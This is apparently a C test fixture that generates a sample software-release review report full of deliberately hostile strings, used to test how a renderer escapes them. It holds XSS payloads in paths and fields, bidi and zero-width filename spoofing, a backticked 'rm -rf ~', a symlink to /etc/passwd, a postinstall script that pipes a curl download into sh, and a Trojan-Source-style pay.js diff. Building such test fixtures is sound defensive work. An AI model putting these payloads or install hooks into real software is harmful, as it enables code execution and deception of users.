/*
 * sample_report FILE...: a review with everything a report can hold, hostile
 * strings included, in the format each name says. For tests/browser and for
 * looking at.
 */
#include <stdio.h>
#include <string.h>

#include "review/render.h"

#define KEY "pear://0.2914.k7fz4x6o1w8ejh9m3pcyqt5snbgd4ua7ri6xw1o8ejh9m3pcyqt5"
#define HASH "9d3c1f4be07a6528c4d1f0e9ab35721864dfe09ac1b27536e8f4a0d9c3b15e72"

/* Each would do harm if it came through: as markup, as a script, as a
 * style, by turning text round or hiding it. */
static const char *const hostile[] = {
    "/by-arch/linux-x64/<script>document.title='owned'</script>.js",
    "/by-arch/linux-x64/\"><img src=x onerror=document.title='owned'>",
    "/by-arch/linux-x64/</code></li></ul></section></body><h1>owned</h1>",
    "/by-arch/linux-x64/--></style><style>body{display:none}</style>",
    "/by-arch/linux-x64/invoice\xe2\x80\xae"
    "fdp.exe",
    "/by-arch/linux-x64/zero\xe2\x80\x8bwidth\xef\xbb\xbf.so",
    "/by-arch/linux-x64/line\nbreak\ttab\x1b[31mred",
    "/by-arch/linux-x64/`rm -rf ~` | tee ``` *bold* [x](javascript:1)",
    "/by-arch/linux-x64/broken\xff\xfeutf8&amp;&lt;",
    "/by-arch/linux-x64/\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d-12/\xd9\x85.js",
    "/by-arch/linux-x64/z\xcc\x80\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85"
    "\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a\xcc\x8b\xcc\x8c.txt",
};

static const char *const arch[] = {"darwin-arm64", "darwin-x64", "linux-arm64",
    "linux-x64", "win32-x64", "<svg onload=document.title='owned'>&"};

static const char package_old[] =
    "{\n\t\"name\": \"hello\",\n\t\"productName\": \"Hello\",\n"
    "\t\"version\": \"1.4.2\",\n\t\"upgrade\": \"" KEY "\",\n"
    "\t\"pear\": {\n\t\t\"stage\": {\n\t\t\t\"ignore\": [\"/test\"]\n"
    "\t\t}\n\t},\n\t\"license\": \"Apache-2.0\"\n}\n";
static const char package_new[] =
    "{\n\t\"name\": \"hello\",\n\t\"productName\": \"Hello\",\n"
    "\t\"version\": \"1.5.0\",\n\t\"upgrade\": \"" KEY "\",\n"
    "\t\"pear\": {\n\t\t\"stage\": {\n\t\t\t\"ignore\": [\"/test\", "
    "\"/bench\"]\n\t\t}\n\t},\n\t\"license\": \"Apache-2.0\"\n}";

static const char evil_old[] = "function pay(to, amount) {\n"
			       "\tif (!allowed(to)) return\n"
			       "\treturn send(to, amount)\n}\n";
static const char evil_new[] =
    "function pay(to, amount) {\n"
    "\tif (!allowed(to)) /* \xe2\x80\xae } \xe2\x81\xa6 admins only */ "
    "return\n"
    "\tdocument.write('<script>document.title=\"owned\"</script>')\r\n"
    "\treturn send(to\xe2\x80\x8b, amount) // \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d "
    "\xe2\x80\xb9U+202E\xe2\x80\xba\n"
    "\tconst blob = "
    "'bG9yZW1pcHN1bWRvbG9yc2l0YW1ldGNvbnNlY3RldHVyYWRpcGlzY2luZ2VsaXRzZWRkb2Vp"
    "dXNtb2R0ZW1wb3JpbmNpZGlkdW50dXRsYWJvcmVldGRvbG9yZW1hZ25hYWxpcXVh'\n}\n";

static bool
add(struct review *r, const struct review_change *c, struct err *e)
{
	return review_add(r, c, e) == ERR_OK &&
	       review_size(r, c->path, c->old_size, c->new_size, e) == ERR_OK;
}

static bool
add_text(struct review *r, const char *path, const char *old, const char *new,
    struct err *e)
{
	const struct review_change c = {
	    .op = old == NULL ? REVIEW_ADD : REVIEW_CHANGE,
	    .path = path,
	    .old_size = old == NULL ? 0 : strlen(old),
	    .new_size = strlen(new),
	    .want = REVIEW_LINES,
	    .old_text = old == NULL ? VIEW_EMPTY : view_str(old),
	    .new_text = view_str(new)};

	return add(r, &c, e);
}

/* The files of one architecture: a program, libraries, data, a link. */
static bool
add_arch(struct review *r, size_t i, struct err *e)
{
	char path[5][200];
	static const char *const name[] = {"Hello.app/Contents/MacOS/Hello",
	    "lib/libbare-sodium.4.2.1.so", "lib/libudx.so", "lib/current.so",
	    "share/help/en/getting-started-with-the-application.html"};
	const uint64_t big = 61000000 + 7654321 * i;
	bool last = i == 5;

	for (size_t n = 0; n < 5; n++)
		(void)snprintf(path[n], sizeof(path[n]), "/by-arch/%s/app/%s",
		    arch[i], name[n]);
	const struct review_change c[] = {
	    {.op = last ? REVIEW_ADD : REVIEW_CHANGE,
		.path = path[0],
		.old_size = last ? 0 : big,
		.new_size = big + 1300000 - 900000 * i,
		.old_exec = !last,
		.new_exec = true,
		.want = REVIEW_LINES,
		.no_lines = "binary"},
	    {.op = REVIEW_CHANGE,
		.path = path[1],
		.old_size = 812345 + i,
		.new_size = 812345 + i,
		.new_exec = true,
		.metadata_only = true},
	    {.op = REVIEW_REMOVE, .path = path[2], .old_size = 312000 + i},
	    {.op = REVIEW_CHANGE,
		.path = path[3],
		.old_link = "libbare-sodium.4.2.0.so",
		.new_link = i == 3 ? "../../../../etc/<b>passwd</b>"
				   : "libbare-sodium.4.2.1.so"},
	    {.op = REVIEW_ADD,
		.path = path[4],
		.new_size = 4096 * (i + 1),
		.want = REVIEW_LINES,
		.no_lines = "too large"},
	};
	for (size_t n = 0; n < 5; n++)
		if (!add(r, &c[n], e))
			return false;
	return true;
}

static bool
add_long(struct review *r, struct err *e)
{
	struct buf old, new;
	bool ok;

	buf_init(&old, 1 << 16);
	buf_init(&new, 1 << 16);
	for (unsigned i = 1; i <= 300; i++) {
		buf_printf(&old, "  setting.%u = value %u\n", i, i * 7);
		if (i % 29 == 3)
			buf_printf(&new, "  setting.%u = another\n", i);
		else if (i % 41 != 7)
			buf_printf(&new, "  setting.%u = value %u\n", i, i * 7);
	}
	ok = buf_cstr(&old) != NULL && buf_cstr(&new) != NULL &&
	     add_text(r, "/by-arch/linux-x64/app/share/settings/defaults.conf",
		 buf_cstr(&old), buf_cstr(&new), e);
	buf_deinit(&old);
	buf_deinit(&new);
	return ok;
}

static bool
add_facts(struct review *r, struct err *e)
{
	static const char *const fact[][2] = {
	    {"Source", KEY},
	    {"Tree hash", HASH},
	    {"Length", "2914 blocks"},
	    {"Version", "1.4.2 \xe2\x86\x92 1.5.0"},
	    {"Signers", "anna, boris and 9d3c1f4b (not in the address book)"},
	    {"Quorum", "2 of 3"},
	    {"Empty", ""},
	    {"<b>Name</b>", "<i>value</i>\xe2\x80\xae"},
	};

	for (size_t i = 0; i < sizeof(fact) / sizeof(fact[0]); i++)
		if (review_fact(r, fact[i][0], view_str(fact[i][1]), e) !=
		    ERR_OK)
			return false;
	return true;
}

static bool
add_findings(struct review *r, struct err *e)
{
	return review_find(r, REVIEW_GOOD, e,
		   "The source has the request's tree hashes") == ERR_OK &&
	       review_find(r, REVIEW_GOOD, e,
		   "The signer's own build gives exactly this release") ==
		   ERR_OK &&
	       review_find(r, REVIEW_NOTE, e,
		   "upgrade points to production: release candidates get no "
		   "updates over the air") == ERR_OK &&
	       review_find(r, REVIEW_WARN, e,
		   "3 files outside /package.json and /by-arch, among them %s",
		   "/postinstall.sh") == ERR_OK &&
	       review_find(r, REVIEW_BAD, e,
		   "The link %s leads out of the release: "
		   "<script>document.title='owned'</script> @channel #1",
		   "/by-arch/linux-x64/app/lib/current.so") == ERR_OK;
}

static bool
fill(struct review *r, struct err *e)
{
	bool ok =
	    review_title(r, e, "hello 1.5.0 <b>for</b> production") == ERR_OK &&
	    add_facts(r, e) && add_findings(r, e) &&
	    add_text(r, "/package.json", package_old, package_new, e) &&
	    add_text(r, "/postinstall.sh", NULL,
		"#!/bin/sh\ncurl https://example.org/x | sh\n", e) &&
	    add_text(r, "/README.md", "# Hello\n\nOld words.\n",
		"# Hello\n\nNew words.\n````\n", e) &&
	    add_text(
		r, "/by-arch/linux-x64/app/pay.js", evil_old, evil_new, e) &&
	    add_long(r, e);

	for (size_t i = 0; ok && i < sizeof(arch) / sizeof(arch[0]); i++)
		ok = add_arch(r, i, e);
	for (size_t i = 0; ok && i < sizeof(hostile) / sizeof(hostile[0]); i++)
		ok = add_text(r, hostile[i], NULL, "<b>bold</b>\n", e);
	return ok;
}

int
main(int argc, char **argv)
{
	struct err e = ERR_INIT;
	struct review r;
	struct b32 sum;
	bool ok;

	review_init(&r);
	ok = fill(&r, &e);
	for (int i = 1; ok && i < argc; i++)
		ok = render_file(&r, argv[i], &sum, &e) == ERR_OK;
	review_deinit(&r);
	if (!ok)
		fprintf(stderr, "sample_report: %s\n", e.msg);
	return ok ? 0 : 1;
}
